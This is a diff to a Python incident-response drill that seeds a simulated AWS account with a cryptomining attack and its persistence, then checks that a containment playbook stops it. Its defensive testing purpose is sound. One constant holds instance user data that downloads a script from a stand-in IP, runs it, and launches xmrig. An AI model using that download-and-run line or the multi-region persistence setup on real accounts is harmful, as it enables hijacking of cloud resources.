@@ -1,6 +1,8 @@
-"""`stanch drill`: the reference attack in an in-process simulated account (moto), contained
-end to end by the reference playbook, then checked: containment, decoys untouched, the
-attacker's own key denied, and a second run that applies nothing."""
+"""`stanch drill`: the reference attack in an in-process simulated account (moto), plus what real
+crews add (a miner in a second region, auto scaling, a schedule, EC2 miners in a third region),
+contained end to end by the reference playbook, then checked: containment, relaunchers disarmed,
+decoys untouched, every region searched, the attacker's own key denied, and a second run that
+applies nothing."""
 
 from __future__ import annotations
 
@@ -173,6 +175,78 @@ def attack_trail(seeded: dict[str, Any], trail: TrailWriter | None = None) -> Tr
                                                 "containerDefinitions": [{"name": "app", "image": n["image"]}]})
     t.add(me, "ecs", "CreateService", {"cluster": n["cluster"], "serviceName": n["service"], "desiredCount": 2})
     return t
+#: where the richer attack puts its second miner service and its EC2 miners
+SECOND_REGION = "eu-central-1"
+THIRD_REGION = "ap-southeast-1"
+MINER_USER_DATA = ("#!/bin/bash\ncurl -sL https://198.51.100.7/x.sh -o /tmp/x.sh && sh /tmp/x.sh\n"
+                   "./xmrig -o pool:443 -k\n")
+_SCHEDULER_ROLE = f"arn:aws:iam::{ACCOUNT}:role/ecs-events"
+
+
+def base_image(ec2: Any) -> str:
+    """An AMI to launch from: Amazon's, or (a simulated account set up without moto's public AMI
+    catalogue) one registered here."""
+    images = ec2.describe_images(Owners=["amazon"])["Images"]
+    if images:
+        return str(images[0]["ImageId"])
+    return str(ec2.register_image(Name="drill-base-image", RootDeviceName="/dev/xvda",
+                                  Architecture="x86_64")["ImageId"])
+
+
+def _instances(ec2: Any, user_data: str, count: int, kind: str) -> list[str]:
+    image = base_image(ec2)
+    found = ec2.run_instances(ImageId=image, MinCount=count, MaxCount=count, InstanceType=kind, UserData=user_data)
+    return [i["InstanceId"] for i in found["Instances"]]
+
+
+def seed_persistence(session: boto3.Session, seeded: dict[str, Any]) -> dict[str, Any]:
+    """What real crews add to the reference chain, each next to a legitimate look-alike: the miner in a
+    second region, auto scaling with a minimum of 3 on the miner service, a schedule that runs the miner
+    task ten at a time every five minutes, and large EC2 instances with a miner in their user data in a
+    third region."""
+    n = seeded["names"]
+    ecs2 = session.client("ecs", region_name=SECOND_REGION)
+    net2 = _network(session.client("ec2", region_name=SECOND_REGION))
+    _service(ecs2, net2, "web", "frontend", "public.ecr.aws/nginx/nginx:1.27", 2)  # decoy
+    _service(ecs2, net2, n["cluster"], n["service"], n["image"], 3)
+    aas = session.client("application-autoscaling", region_name=REGION)
+    for cluster, service, low in ((n["cluster"], n["service"], 3), ("web", "frontend", 2)):
+        aas.register_scalable_target(ServiceNamespace="ecs", ResourceId=f"service/{cluster}/{service}",
+                                     ScalableDimension="ecs:service:DesiredCount", MinCapacity=low, MaxCapacity=10)
+    ecs = session.client("ecs")
+    miner_td = ecs.describe_services(cluster=n["cluster"], services=[n["service"]])["services"][0]["taskDefinition"]
+    web_td = ecs.describe_services(cluster="web", services=["frontend"])["services"][0]["taskDefinition"]
+    scheduler = session.client("scheduler", region_name=REGION)
+    for name, cluster, td in (("cache-warmer", n["cluster"], miner_td), ("frontend-smoke-test", "web", web_td)):
+        scheduler.create_schedule(
+            Name=name, ScheduleExpression="rate(5 minutes)", FlexibleTimeWindow={"Mode": "OFF"},
+            Target={"Arn": f"arn:aws:ecs:{REGION}:{ACCOUNT}:cluster/{cluster}", "RoleArn": _SCHEDULER_ROLE,
+                    "EcsParameters": {"TaskDefinitionArn": td, "TaskCount": 10 if cluster != "web" else 1}})
+    ec2 = session.client("ec2", region_name=THIRD_REGION)
+    miners = _instances(ec2, MINER_USER_DATA, 4, "c5.9xlarge")
+    legit = _instances(ec2, "#!/bin/bash\nsystemctl start nginx\n", 1, "t3.small")
+    return {"miner_instances": miners, "legit_instances": legit}
+
+
+def persistence_snapshot(session: boto3.Session) -> dict[str, Any]:
+    """Relaunchers and compute outside the home region, for before/after comparison."""
+    snap: dict[str, Any] = {"services": {}, "scaling": {}, "schedules": {}, "instances": {}}
+    ecs2 = session.client("ecs", region_name=SECOND_REGION)
+    for cluster in ecs2.list_clusters()["clusterArns"]:
+        arns = ecs2.list_services(cluster=cluster)["serviceArns"]
+        for s in ecs2.describe_services(cluster=cluster, services=arns)["services"] if arns else []:
+            snap["services"][s["serviceArn"]] = s["desiredCount"]
+    aas = session.client("application-autoscaling", region_name=REGION)
+    for t in aas.describe_scalable_targets(ServiceNamespace="ecs")["ScalableTargets"]:
+        snap["scaling"][t["ResourceId"]] = {"min": t["MinCapacity"],
+                                            "suspended": sorted(k for k, v in (t.get("SuspendedState") or {}).items()
+                                                                if v)}
+    for sch in session.client("scheduler", region_name=REGION).list_schedules()["Schedules"]:
+        snap["schedules"][sch["Name"]] = sch["State"]
+    for r in session.client("ec2", region_name=THIRD_REGION).describe_instances()["Reservations"]:
+        for i in r["Instances"]:
+            snap["instances"][i["InstanceId"]] = i["State"]["Name"]
+    return snap
 
 
 def root_keys_present(present: bool) -> None:
@@ -246,6 +320,7 @@ def run_drill(*, dry_run: bool, state: Path, names: dict[str, str] | None = None
     state.mkdir(parents=True, exist_ok=True, mode=0o700)
     with simulated_account() as session:
         seeded = seed(session, names)
+        extra = seed_persistence(session, seeded)
         root_keys_present(True)
         n = seeded["names"]
         inc_path = state / f"drill-incident-{int(time.time())}.json"
@@ -255,6 +330,7 @@ def run_drill(*, dry_run: bool, state: Path, names: dict[str, str] | None = None
         trail_path.write_text(json.dumps(attack_trail(seeded).document()))
         trail = ([*attack_trail(seeded).records], [f"trail file {trail_path} (the drill's own record of the attack)"])
         before = account_snapshot(session)
+        before_extra = persistence_snapshot(session)
         options = RunOptions(dry_run=dry_run, approve_all=True, by="drill",
                              reason="drill: approvals recorded as the drill's")
 
@@ -266,6 +342,7 @@ def run_drill(*, dry_run: bool, state: Path, names: dict[str, str] | None = None
 
         result = go()
         after = account_snapshot(session)
+        after_extra = persistence_snapshot(session)
         checks: list[tuple[str, bool, str]] = []
 
         def check(name: str, ok: bool, detail: str = "") -> None:
@@ -273,7 +350,8 @@ def run_drill(*, dry_run: bool, state: Path, names: dict[str, str] | None = None
 
         if dry_run:
             check("run planned", result["status"] == "planned", result["status"])
-            check("nothing changed in the account", before == after, "IAM and ECS snapshots compared")
+            check("nothing changed in the account", before == after and before_extra == after_extra,
+                  "IAM, ECS, auto scaling, schedules and EC2 snapshots compared")
             planned = sum(len(s["changes"]) for s in result["steps"])
             check("the plan contains the containment", planned >= 6, f"{planned} changes planned")
         else:
@@ -301,6 +379,7 @@ def run_drill(*, dry_run: bool, state: Path, names: dict[str, str] | None = None
                   web == {k: v for k, v in before["services"].items() if "/web/" in k})
             check("legitimate tasks still running",
                   all(v == "RUNNING" for k, v in after["tasks"].items() if "/web/" in k))
+            _check_persistence(check, n, extra, before_extra, after_extra, result)
             ok, detail = attacker_key_denied(session, seeded["attacker_key"], seeded["alice_key"])
             check("attacker's own key denied (moto IAM enforcement)", ok, detail)
             again = go()
@@ -323,6 +402,31 @@ def run_drill(*, dry_run: bool, state: Path, names: dict[str, str] | None = None
             "metrics": result.get("metrics", {}),
             "incident_file": str(inc_path),
         }
+
+
+def _check_persistence(check: Any, n: dict[str, str], extra: dict[str, Any], before: dict[str, Any],
+                       after: dict[str, Any], result: dict[str, Any]) -> None:
+    second = {k: v for k, v in after["services"].items() if k.endswith(f"/{n['cluster']}/{n['service']}")}
+    check(f"miner service in {SECOND_REGION} scaled to 0", bool(second) and set(second.values()) == {0},
+          json.dumps(second))
+    decoy = {k: v for k, v in after["services"].items() if "/web/" in k}
+    check(f"legitimate service web/frontend in {SECOND_REGION} untouched",
+          bool(decoy) and decoy == {k: v for k, v in before["services"].items() if "/web/" in k})
+    target = after["scaling"].get(f"service/{n['cluster']}/{n['service']}", {})
+    check("miner's scalable target suspended with MinCapacity 0",
+          target.get("min") == 0 and len(target.get("suspended", [])) == 3, json.dumps(target))
+    check("legitimate scalable target web/frontend untouched",
+          after["scaling"].get("service/web/frontend") == before["scaling"].get("service/web/frontend"))
+    check("schedule running the miner task disabled", after["schedules"].get("cache-warmer") == "DISABLED")
+    check("legitimate schedule untouched", after["schedules"].get("frontend-smoke-test") == "ENABLED")
+    miners = [after["instances"].get(i) for i in extra["miner_instances"]]
+    check(f"miner EC2 instances in {THIRD_REGION} stopped (not terminated)",
+          bool(miners) and set(miners) == {"stopped"}, json.dumps(miners))
+    check(f"legitimate EC2 instance in {THIRD_REGION} untouched",
+          all(after["instances"].get(i) == "running" for i in extra["legit_instances"]))
+    regions = (result.get("coverage") or {}).get("regions", [])
+    check("every region searched, including the three used by the attack",
+          {REGION, SECOND_REGION, THIRD_REGION} <= set(regions), f"{len(regions)} regions")
 
 
 def scorecard_text(card: dict[str, Any]) -> str:
